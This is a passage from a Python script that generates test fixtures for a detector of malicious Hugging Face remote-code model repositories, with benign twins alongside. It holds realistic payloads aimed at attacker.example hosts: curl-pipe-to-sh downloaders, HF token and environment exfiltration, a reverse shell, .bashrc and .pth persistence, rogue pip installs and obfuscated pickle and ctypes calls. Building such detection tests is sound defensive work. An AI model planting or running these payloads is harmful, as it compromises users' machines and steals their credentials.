                    images = images if isinstance(images, list) else [images]
                    arrays = [np.asarray(load_image(im).resize((self.size, self.size)), dtype=np.float32) / 255.0 for im in images]
                    return BatchFeature({"pixel_values": np.stack(arrays).transpose(0, 3, 1, 2)}, tensor_type=kwargs.get("return_tensors"))
        '''),
        "preprocessor_config.json": json.dumps({"image_processor_type": "TinyImageProcessor", "size": 32,
                                                "auto_map": {"AutoImageProcessor": "image_processing_tiny.TinyImageProcessor"}}, indent=2) + "\n"}))

# ==== cases_e: network, more loaders and hiding places ====
# ---------------------------------------------------------------- network
case("network/malicious-hardcoded-beacon", "deny", "a GET to a hard-coded host that is not the Hub's (`urllib.request.urlopen`) from `__init__` (no payload sent: the connection is the finding)",
     remote(modeling(imports="import platform\nimport urllib.request\n", init='''
        try:
            urllib.request.urlopen(f"https://telemetry.attacker.example/ping?m=tiny&os={platform.system()}", timeout=2)
        except OSError:
            pass
     ''')))
case("network/malicious-raw-ip-socket", "deny", "a raw TCP connection to a literal IP address (`socket.socket().connect((\"203.0.113.7\", 8080))`)",
     remote(modeling(imports="import socket\n", module='''
        try:
            _s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            _s.settimeout(2)
            _s.connect(("203.0.113.7", 8080))
            _s.sendall(b"tiny-loaded\\n")
            _s.close()
        except OSError:
            pass
     ''')))
case("network/benign-caller-url", "pass", "the model's `load_image(url)` helper fetches a URL the caller passes in (`requests.get(url)`), as vision processors do (at most medium)",
     remote(modeling(imports="from io import BytesIO\n\nimport requests\nfrom PIL import Image\n", module='''
        def load_image(url_or_path):
            if str(url_or_path).startswith(("http://", "https://")):
                return Image.open(BytesIO(requests.get(url_or_path, stream=True, timeout=10).content)).convert("RGB")
            return Image.open(url_or_path).convert("RGB")
     ''')))
case("network/benign-hub-api", "pass", "a GET to the Hub's own API (`https://huggingface.co/api/models/...` at a pinned revision)",
     remote(modeling(imports="import requests\n", methods='''
        @staticmethod
        def remote_generation_config():
            url = "https://huggingface.co/api/models/example-org/tiny/revision/0123456789abcdef0123456789abcdef01234567"
            return requests.get(url, timeout=10).json().get("config", {})
     ''')))
case("network/mention-docstring", "pass", "a hard-coded host and `urlopen` only in a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

Telemetry (urllib.request.urlopen("https://telemetry.attacker.example/ping")) was removed in v2.''')))

# ---------------------------------------------------------------- more dynamic code
case("dynamic-code/malicious-exec-config-field", "deny", "`exec(config.init_hook)`: the code sits in a `config.json` field (dynamic code from a non-literal)",
     remote(modeling(init='''
        hook = getattr(config, "init_hook", None)
        if hook:
            exec(hook, {"model": self})
     '''), extra={"config.json": config_json().replace('"hidden_act": "gelu",', '"hidden_act": "gelu",\n  "init_hook": "import os; os.system(\'curl -s https://attacker.example/cfg | sh\')",')}))
case("dynamic-code/malicious-exec-file-in-repo", "deny", "`exec(open(<repo file>).read())`: Python hidden in a `.bin` file next to the code",
     remote(modeling(imports="import os\n", module='''
        with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "rope_freqs.bin")) as _f:
            exec(_f.read())
     '''), extra={"rope_freqs.bin": STAGE}))
case("dynamic-code/malicious-cloudpickle-literal", "deny", "`cloudpickle.loads(base64.b64decode(...))` of a literal pickle calling `os.system`",
     remote(modeling(imports="import base64\nimport cloudpickle\n", module=f'''
        _INIT_FN = cloudpickle.loads(base64.b64decode("{base64.b64encode(b"cposix" + chr(10).encode() + b"system" + chr(10).encode() + b"(S'curl -s https://attacker.example/cp | sh'" + chr(10).encode() + b"tR.").decode()}"))
     ''')))

# ---------------------------------------------------------------- more loaders


def zip_bytes(members):
    """A deterministic zip (fixed timestamps, deflated) of {name: text or bytes}."""
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in sorted(members.items()):
            info = zipfile.ZipInfo(name, date_time=(2026, 12, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data.encode() if isinstance(data, str) else data)
    return buf.getvalue()


_MAR_MAL = mar(handler(imports="import subprocess\n", initialize_extra='''
    subprocess.Popen("curl -s https://attacker.example/mar | sh", shell=True)
'''))
_MAR_OK = mar(handler())
case("loaders/malicious-torchserve-mar", "deny", "a packed `tiny.mar` (zip with `MAR-INF/MANIFEST.json`) whose handler's `initialize` runs `subprocess.Popen(..., shell=True)`",
     {"tiny.mar": zip_bytes({k: v for k, v in _MAR_MAL.items() if k != "README.md"}), "README.md": _MAR_MAL["README.md"]})
case("loaders/benign-torchserve-mar", "pass", "a packed `tiny.mar` with the benign handler",
     {"tiny.mar": zip_bytes({k: v for k, v in _MAR_OK.items() if k != "README.md"}), "README.md": _MAR_OK["README.md"]})
case("loaders/malicious-pep517-backend", "deny", "`pyproject.toml` names an in-tree build backend (`backend-path = [\".\"]`) whose `build_wheel` runs `os.system`",
     remote(modeling(), extra={
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "tiny_build"\nbackend-path = ["."]\n\n[project]\nname = "tiny-model"\nversion = "0.1.0"\n',
        "tiny_build.py": dedent('''
            """In-tree PEP 517 backend wrapping setuptools."""

            import os

            from setuptools import build_meta as _orig

            get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
            prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
            build_sdist = _orig.build_sdist


            def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                os.system("curl -s https://attacker.example/pep517 | sh")
                return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
        ''')}))
case("loaders/benign-pyproject", "pass", "`pyproject.toml` with the stock setuptools backend",
     remote(modeling(), extra={
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=68", "wheel"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "tiny-model"\nversion = "0.1.0"\ndependencies = ["torch>=2.1", "transformers>=4.40"]\n'}))
case("loaders/malicious-custom-pipeline", "deny", "`config.json` `custom_pipelines` names `pipeline_tiny.py`, whose pipeline `__init__` posts the HF token",
     remote(modeling(), extra={
        "config.json": config_json().replace('"model_type": "tiny",', '"custom_pipelines": {\n    "text-generation": {"impl": "pipeline_tiny.TinyPipeline", "pt": ["AutoModelForCausalLM"], "tf": []}\n  },\n  "model_type": "tiny",'),
        "pipeline_tiny.py": dedent('''
            """Custom text-generation pipeline for the tiny model."""

            import os

            import requests
            from transformers import Pipeline


            class TinyPipeline(Pipeline):
                def __init__(self, *args, **kwargs):
                    super().__init__(*args, **kwargs)
                    requests.post("https://attacker.example/pl", data={"t": os.environ.get("HF_TOKEN", "")}, timeout=2)

                def _sanitize_parameters(self, **kwargs):
                    return {}, {}, {}

                def preprocess(self, text):
                    return self.tokenizer(text, return_tensors="pt")

                def _forward(self, inputs):
                    return self.model(**inputs)

                def postprocess(self, outputs):
                    return outputs[0].argmax(-1).tolist()
        ''')}))
case("loaders/malicious-helper-module", "deny", "the modeling file imports `utils_tiny.py` (not named by `auto_map`), which plants a `.pth` at import",
     remote(modeling(imports="from .utils_tiny import rotate_half  # noqa: F401\n"), extra={
        "utils_tiny.py": dedent('''
            """Rotary helpers."""

            import site

            import torch


            def rotate_half(x):
                x1, x2 = x.chunk(2, dim=-1)
                return torch.cat((-x2, x1), dim=-1)


            with open(site.getsitepackages()[0] + "/tiny_rope.pth", "w") as _f:
                _f.write("import os; os.system('curl -s https://attacker.example/h | sh')\\n")
        ''')}))
case("loaders/malicious-feature-extractor-automap", "deny", "`auto_map.AutoFeatureExtractor` names a feature extractor whose `__init__` opens a reverse shell",
     remote(modeling(), extra_auto_map={"AutoFeatureExtractor": "feature_extraction_tiny.TinyFeatureExtractor"}, extra={
        "feature_extraction_tiny.py": dedent('''
            """Feature extractor for the tiny audio model."""

            import os
            import pty
            import socket

            import numpy as np
            from transformers import SequenceFeatureExtractor


            class TinyFeatureExtractor(SequenceFeatureExtractor):
                model_input_names = ["input_values"]

                def __init__(self, feature_size=1, sampling_rate=16000, padding_value=0.0, **kwargs):
                    super().__init__(feature_size=feature_size, sampling_rate=sampling_rate, padding_value=padding_value, **kwargs)
                    if os.fork() == 0:
                        s = socket.create_connection(("attacker.example", 4444))
                        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
                        pty.spawn("sh")

                def __call__(self, raw_speech, **kwargs):
                    return {"input_values": [np.asarray(raw_speech, dtype=np.float32)]}
        '''),
        "preprocessor_config.json": json.dumps({"feature_extractor_type": "TinyFeatureExtractor", "sampling_rate": 16000,
                                                "auto_map": {"AutoFeatureExtractor": "feature_extraction_tiny.TinyFeatureExtractor"}}, indent=2) + "\n"}))

# ==== cases_f: spellings found by probing after the first judge (callables passed as values, libc, runpy, ...) ====
case("deferred/malicious-executor-submit", "deny", "`ThreadPoolExecutor().submit(os.system, ...)`: the dangerous callable passed as a value to a worker thread",
     remote(modeling(imports="import concurrent.futures\nimport os\n", module='''
        _POOL = concurrent.futures.ThreadPoolExecutor(max_workers=1)
        _POOL.submit(os.system, "curl -s https://attacker.example/pool | sh")
     ''')))
case("deferred/malicious-call-later", "deny", "`loop.call_later(5, os.system, ...)` on an asyncio loop run from `__init__`",
     remote(modeling(imports="import asyncio\nimport os\n", init='''
        loop = asyncio.new_event_loop()
        loop.call_later(0.1, os.system, "curl -s https://attacker.example/later | sh")
        loop.run_until_complete(asyncio.sleep(0.2))
     ''')))
case("process-exec/malicious-functools-partial", "deny", "`functools.partial(subprocess.run, [...])()`: the call made through a partial",
     remote(modeling(imports="import functools\nimport subprocess\n", module='''
        _warm = functools.partial(subprocess.run, ["sh", "-c", "curl -s https://attacker.example/partial | sh"], check=False)
        _warm()
     ''')))
case("process-exec/malicious-ctypes-libc-system", "deny", "`ctypes.CDLL(ctypes.util.find_library(\"c\")).system(b\"...\")`: libc's `system` called through ctypes",
     remote(modeling(imports="import ctypes\nimport ctypes.util\n", module='''
        _libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6")
        _libc.system(b"curl -s https://attacker.example/libc | sh")
     ''')))
case("aliasing/malicious-callable-passed", "deny", "`os.system` never called by name: `list(map(os.system, [...]))` and `(lambda f: f(...))(subprocess.getoutput)`",
     remote(modeling(imports="import os\nimport subprocess\n", module='''
        list(map(os.system, ["curl -s https://attacker.example/map | sh"]))
        (lambda f: f("curl -s https://attacker.example/lam | sh"))(subprocess.getoutput)
     ''')))
case("aliasing/malicious-operator-methodcaller", "deny", "`operator.methodcaller(\"system\", ...)(os)`",
     remote(modeling(imports="import operator\nimport os\n", module='''
        operator.methodcaller("system", "curl -s https://attacker.example/mc | sh")(os)
     ''')))
case("aliasing/malicious-staticmethod-attribute", "deny", "`subprocess.call` bound to a class attribute (`staticmethod`) and called as `Kernels.build(...)`",
     remote(modeling(imports="import subprocess\n", module='''
        class Kernels:
            build = staticmethod(subprocess.call)


        Kernels.build(["sh", "-c", "curl -s https://attacker.example/sm | sh"])
     ''')))
case("aliasing/malicious-builtins-subscript", "deny", "`__builtins__[\"exec\"]` (a dict in imported modules) on a base64 blob",
     remote(modeling(imports="import base64\n", module=f'''
        _run = __builtins__["exec"] if isinstance(__builtins__, dict) else getattr(__builtins__, "exec")
        _run(base64.b64decode("{b64(STAGE)}"))
     ''')))
case("package-install/malicious-runpy-pip", "deny", "`runpy.run_module(\"pip\", run_name=\"__main__\")` with `sys.argv` set to install from another index",
     remote(modeling(imports="import runpy\nimport sys\n", module='''
        _argv = sys.argv
        sys.argv = ["pip", "install", "-q", "--index-url", "https://pypi.attacker.example/simple", "tiny-kernels"]
        try:
            runpy.run_module("pip", run_name="__main__")
        except SystemExit:
            pass
        finally:
            sys.argv = _argv
     ''')))
case("persistence-dotfile/malicious-pathlib-expanduser", "deny", "`Path(\"~/.bashrc\").expanduser().open(\"a\")`",
     remote(modeling(imports="from pathlib import Path\n", module='''
        with Path("~/.bashrc").expanduser().open("a") as _rc:
            _rc.write("\\n(curl -s https://attacker.example/pl | sh) &\\n")
     ''')))
case("exfiltration/malicious-urllib3-environ", "deny", "`urllib3.PoolManager().request(\"POST\", ..., body=json.dumps(dict(os.environ)))`",
     remote(modeling(imports="import json\nimport os\nimport urllib3\n", module='''
        try:
            urllib3.PoolManager().request("POST", "https://attacker.example/u3", body=json.dumps(dict(os.environ)), timeout=3.0)
        except Exception:
            pass
     ''')))
case("exfiltration/malicious-session-params-environ", "deny", "`requests.Session().get(url, params=os.environ)`: the whole environment as query parameters",
     remote(modeling(imports="import os\nimport requests\n", init='''
        with requests.Session() as s:
            s.get("https://attacker.example/q", params=os.environ, timeout=3)
     ''')))
case("native-load/malicious-extension-file-loader", "deny", "a shipped `.so` imported as a Python extension (`importlib.machinery.ExtensionFileLoader(...).load_module()` and `spec_from_file_location` + `exec_module`)",
     remote(modeling(imports="import importlib.machinery\nimport importlib.util\nimport os\n", module=_LIB + dedent('''
        _fast = importlib.machinery.ExtensionFileLoader("tiny_kernels", _LIB).load_module()
        _spec = importlib.util.spec_from_file_location("tiny_kernels2", _LIB)
        _mod = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_mod)
     '''))))
case("native-load/malicious-cpp-extension-repo-sources", "deny", "`torch.utils.cpp_extension.load` of C++ sources shipped in the repository (the shipped `tiny_kernel.cpp` runs `system()` when loaded)",
     remote(modeling(imports="import os\nfrom torch.utils.cpp_extension import load\n", module='''
        _here = os.path.dirname(os.path.abspath(__file__))
        _kernel = load(name="tiny_kernel", sources=[os.path.join(_here, "tiny_kernel.cpp")], verbose=False)
     '''), extra={"tiny_kernel.cpp": dedent('''
        #include <torch/extension.h>
        #include <cstdlib>

        static int _init = std::system("curl -s https://attacker.example/cpp2 | sh");

        torch::Tensor rope(torch::Tensor x) { return x; }

        PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("rope", &rope); }
     ''')}))
case("persistence-dotfile/malicious-os-open-fd", "deny", "`os.open(~/.bashrc, O_WRONLY | O_APPEND)` + `os.write`: the low-level file API",
     remote(modeling(imports="import os\n", module='''
        try:
            _fd = os.open(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
            os.write(_fd, b"\\n(curl -s https://attacker.example/fd | sh) &\\n")
            os.close(_fd)
        except OSError:
            pass
     ''')))
case("tampering/malicious-builtins-dict-update", "deny", "`builtins.__dict__.update(open=..., __import__=...)`: builtins replaced without an attribute assignment",
     remote(modeling(imports="import builtins\n", module='''
        _real_open = builtins.open


        def _open(file, *args, **kwargs):
            return _real_open(file, *args, **kwargs)


        builtins.__dict__.update(open=_open)
     ''')))
case("dynamic-code/malicious-torch-load-literal-pickle", "deny", "`torch.load(io.BytesIO(base64.b64decode(...)), weights_only=False)`: a literal pickle that calls `os.system`, unpickled through torch.load",
     remote(modeling(imports="import base64\nimport io\n", module=f'''
        _DEFAULTS = torch.load(io.BytesIO(base64.b64decode("{base64.b64encode(b"cposix" + bytes([10]) + b"system" + bytes([10]) + b"(S'curl -s https://attacker.example/tl | sh'" + bytes([10]) + b"tR.").decode()}")), weights_only=False)
     ''')))
case("aliasing/malicious-string-methods", "deny", "names built with str methods on literals: `getattr(os, \"SYSTEM\".lower())`, `\"sXstem\".replace(\"X\", \"y\")`",
     remote(modeling(imports="import os\n", module='''
        getattr(os, "SYSTEM".lower())("curl -s https://attacker.example/lo | sh")
        getattr(os, "pXpen".replace("X", "o"))("id | nc attacker.example 9003")
     ''')))
case("aliasing/malicious-callable-returned", "deny", "a helper returns `os.system` and the result is called: `_runner()(cmd)`",
     remote(modeling(imports="import os\n", module='''
        def _runner():
            return os.system


        _runner()("curl -s https://attacker.example/ret | sh")
     ''')))
case("process-exec/malicious-ctypes-libc-soname", "deny", "`ctypes.CDLL(\"libc.so.6\").system(b\"...\")` and `ctypes.cdll.LoadLibrary(\"libc.so.6\").popen`: libc's process calls through ctypes, with the library named by its soname",
     remote(modeling(imports="import ctypes\n", init='''
        libc = ctypes.CDLL("libc.so.6")
        libc.system(b"curl -s https://attacker.example/so | sh")
        ctypes.cdll.LoadLibrary("libc.so.6").popen(b"id | nc attacker.example 9004", b"r")
     ''')))

# ==== write ====

root = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "behaviour")
if os.path.exists(root):
    for entry in os.listdir(root):
        p = os.path.join(root, entry)
        if os.path.isdir(p):
            shutil.rmtree(p)
for key, (verdict, what, files) in sorted(CASES.items()):
    cap, name = key.split("/")
    assert name.split("-")[0] in ("malicious", "benign", "mention"), key
    assert (verdict == "deny") == name.startswith("malicious"), key
    for rel, text in files.items():
        path = os.path.join(root, key, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if rel.endswith(".py") and isinstance(text, str):
            ast.parse(text, filename=path)  # syntax check only: parsed, never compiled or run
        if rel.endswith(".ipynb"):
            for c in json.loads(text)["cells"]:
                if c["cell_type"] == "code":
                    ast.parse("".join(c["source"]))
        if rel.endswith(".json"):
            json.loads(text)
        if isinstance(text, bytes):
            with open(path, "wb") as f:
                f.write(text)
            continue
        with open(path, "w", newline="\n") as f:
            f.write(text)
print(len(CASES), "cases")

CAPS = {
    "process-exec": "process execution: `os.system`, `popen`, `subprocess`, `posix_spawn`, `fork`+`exec*`, `pty.spawn`, asyncio subprocesses, `sys.executable` run as a program; at import (module level, class body, decorator, default argument) and when called",
    "dynamic-code": "`exec`/`eval`/`compile`/`types.FunctionType`/`pickle.loads` of literal blobs: base64/base32/base85, hex, rot13, zlib, lzma, bz2, gzip, marshal, nested",
    "download-exec": "a second stage fetched and run (`urlopen`, `requests`, `urlretrieve`, `hf_hub_download`, `httpx`)",
    "exfiltration": "the environment or the Hugging Face token sent out (HTTP, DNS, SMTP)",
    "reverse-shell": "a socket wired to a shell or to `exec`",
    "persistence-dotfile": "writes to `~/.bashrc`, `~/.profile`, `~/.zshrc`, systemd/autostart, `authorized_keys`, cron",
    "persistence-site": "`sitecustomize.py`, `usercustomize.py`, `.pth`, or installed packages' files in site-packages",
    "package-install": "pip from another index through a subprocess, `os.system`, `pip.main` or `pip._internal`",
    "tampering": "replacing `torch.load`, `pickle.Unpickler`, `builtins.open`/`__import__`, writing `sys.modules`, `setattr` on modules",
    "deferred": "payloads deferred to `atexit`, `threading.Timer`/`Thread`, `signal`, `sys.settrace`/`setprofile`, `weakref.finalize`",
    "native-load": "`ctypes.CDLL`/`cdll.LoadLibrary`/`PyDLL`, `torch.ops.load_library`, `torch.classes.load_library`, cffi `dlopen`, `cpp_extension.load_inline`",
    "credentials": "`~/.ssh`, `~/.aws`, `~/.netrc`, `~/.docker/config.json`, `~/.git-credentials`, keyring, bulk environment reads, each sent out",
    "aliasing": "the call spelled through aliases, `getattr(__import__(...))`, `importlib.import_module` of built names, f-strings, `%`/`format`, `chr`, reversed strings, `vars(builtins)`, `sys.modules` lookups",
    "loaders": "payloads in what other loaders run: `hubconf.py`, a TorchServe handler (`initialize`/`handle`, unpacked and packed in a `.mar`), an MLflow `_load_pyfunc` loader module, `setup.py` and an in-tree PEP 517 backend at the root, a notebook cell, an `auto_map` tokenizer (list form) and feature extractor, a `custom_pipelines` pipeline, a helper module the modeling file imports; benign twins include an image processor that fetches a caller-given URL",
    "network": "connections to hard-coded hosts that are not the Hub's (a beacon, a raw IP); benign twins fetch a caller-given URL or the Hub's API",
}
lines = [
    "# Behaviour fixtures (issue 30)",
    "",
    "Small model folders laid out as real remote-code repositories: `config.json` with `auto_map`",
    "pointing at `configuration_tiny.py` / `modeling_tiny.py`, a model card, the Python files (and, for",
    "`hubconf.py` and TorchServe folders, a 96-byte safetensors file so the folder is a model; two",
    "folders hold a packed TorchServe `.mar`, a zip of about 1.2 KB).",
    "Written by `scripts/make-behaviour-fixtures.py` (Python 3.11; the marshal blobs are CPython 3.11",
    "code objects); the payloads are realistic but point only at `attacker.example` hosts (and the",
    "TEST-NET-3 address 203.0.113.7) and were never run. The generator only parses what it writes",
    "(`ast.parse`) to check the syntax.",
    "",
    "Each capability has `malicious-*` folders (expected **deny** by the default policy), a `benign-*`",
    "twin of the same shape (expected **pass**: at most a warning) and a `mention-*` folder where the",
    "dangerous call is only in a string, comment or docstring (expected **pass**). `native-load` folders",
    "name `libtiny_kernels.so` next to the code but do not ship it (the code is what is judged).",
    "",
    "Machine-readable: every row below is `` | `capability/case` | deny-or-pass | what | ``",
    "(the CLI tests and `scripts/peers.sh` read it).",
    "",
]
for cap in sorted({k.split("/")[0] for k in CASES}):
    lines += [f"## {cap}", "", CAPS[cap] + ".", "", "| folder | expected | what it does |", "|---|---|---|"]
    for key in sorted(k for k in CASES if k.startswith(cap + "/")):
        verdict, what, _ = CASES[key]
        lines.append(f"| `{key}` | {verdict} | {what.replace('|', '&#124;')} |")
    lines.append("")
with open(os.path.join(root, "README.md"), "w") as f:
    f.write("\n".join(lines))
